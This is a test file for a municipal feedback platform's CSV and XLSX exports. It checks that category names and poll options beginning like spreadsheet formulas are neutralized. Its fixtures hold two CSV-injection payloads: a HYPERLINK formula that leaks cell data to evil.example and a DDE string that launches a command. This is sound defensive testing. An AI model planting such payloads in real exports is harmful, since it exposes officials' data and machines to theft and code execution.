/**
 * The CSV exports officials open in a spreadsheet: a category, a municipality or a poll option that begins like a
 * formula (a citizen's or an editor's text can) arrives neutralized with a leading apostrophe, counts stay numbers,
 * and the XLSX export keeps the same text as a text cell.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventIdFor, uuidV5 } from '../../lib/ids.js';
import type { AnalyticsEventInput } from '../../lib/queues.js';
import type { Otklik } from '../../main.js';
import { eventually, loginAs, startTestSystem } from '../support.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Дороги")';
const NEGATIVE_FORMULA = "-2+3+cmd|' /C calc'!A0";

const csvRows = async (res: Response): Promise<string[][]> => {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/text\/csv/);
  const bytes = Buffer.from(await res.arrayBuffer());
  // The BOM (Excel needs it to read UTF-8); Response#text() would drop it.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes.subarray(3).toString('utf8')) as string[][];
};

describe('CSV exports neutralize formula cells', () => {
  let system: Otklik;
  let token: string;
  const staff = (method: string, path: string, body?: unknown) =>
    fetch(`${system.url}${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
      body: body ? JSON.stringify(body) : undefined,
    });

  beforeAll(async () => {
    system = await startTestSystem({}, ['workflow', 'analytics', 'dashboard']);
    token = await loginAs(system.url!, 'admin', 'test-admin-password');
  });
  afterAll(async () => {
    await system?.stop();
  });

  it('an analytics table as CSV and XLSX', async () => {
    const at = new Date(Date.now() - 3_600_000).toISOString();
    const categories = [FORMULA, FORMULA, NEGATIVE_FORMULA, '@SUM(A1:A9)', 'Дороги'];
    const events: AnalyticsEventInput[] = categories.map((category, i) => {
      const messageId = uuidV5(`csv-export-${i}-${at}`);
      return { eventId: eventIdFor(messageId, 'classified'), type: 'message.classified', at, messageId, source: 'widget', municipality: 'город Красноярск',
        category, confidence: 0.9, modelVersion: 't', fastTrack: false, kind: 'complaint', props: {} };
    });
    await system.queues.events.add('test', { events: events as never });
    const json = await eventually(async () => {
      const res = await staff('GET', '/api/v1/analytics/top-problems');
      const body = (await res.json()) as { rows: { category: string; messages: number }[] };
      return body.rows.length === 4 && body.rows.reduce((n, r) => n + r.messages, 0) === 5 ? body.rows : undefined;
    }, 30_000, 'the events in ClickHouse');
    expect(json.find((r) => r.category === FORMULA)!.messages).toBe(2);

    const rows = await csvRows(await staff('GET', '/api/v1/analytics/top-problems?format=csv'));
    expect(rows[0]).toEqual(['Категория', 'Сообщений', 'Доля']);
    const byCategory = new Map(rows.slice(1).map((r) => [r[0], r]));
    expect(byCategory.get(`'${FORMULA}`)).toEqual([`'${FORMULA}`, '2', '0.4']);
    expect(byCategory.get(`'${NEGATIVE_FORMULA}`)?.[1]).toBe('1');
    expect(byCategory.has("'@SUM(A1:A9)")).toBe(true);
    expect(byCategory.get('Дороги')).toEqual(['Дороги', '1', '0.2']);
    expect(rows.slice(1).every((r) => !/^[=+\-@\t\r]/.test(r[0]!))).toBe(true);

    const xlsx = await staff('GET', '/api/v1/analytics/top-problems?format=xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
    const cells = wb.worksheets[0]!.getColumn(1).values.filter((v) => typeof v === 'string');
    expect(cells).toContain(FORMULA);
    const formulaRow = wb.worksheets[0]!.getRows(2, 4)!.find((r) => r.getCell(1).value === FORMULA)!;
    expect(formulaRow.getCell(1).type).toBe(ExcelJS.ValueType.String);
  });

  it('poll results as CSV', async () => {
    const created = await staff('POST', '/api/v1/polls', {
      title: 'Какое общественное пространство благоустроить?',
      description: 'Проверка выгрузки.',
      municipalities: ['город Красноярск'],
      liveResults: true,
      questions: [{ kind: 'single', text: NEGATIVE_FORMULA, options: [FORMULA, '+7 913 000-00-00', 'Сквер на Мира'] }],
    });
    expect(created.status, await created.clone().text()).toBe(201);
    const poll = (await created.json()) as { id: string };
    for (const to of ['published', 'open']) expect((await staff('POST', `/api/v1/polls/${poll.id}/status`, { to })).status).toBe(200);
    const rows = await csvRows(await fetch(`${system.url}/polls/${poll.id}/results.csv`));
    expect(rows[0]).toEqual(['Вопрос', 'Вариант', 'Голосов', 'Доля, %']);
    expect(rows.slice(1)).toEqual([
      [`'${NEGATIVE_FORMULA}`, `'${FORMULA}`, '0', '0'],
      [`'${NEGATIVE_FORMULA}`, "'+7 913 000-00-00", '0', '0'],
      [`'${NEGATIVE_FORMULA}`, 'Сквер на Мира', '0', '0'],
    ]);
  });
});
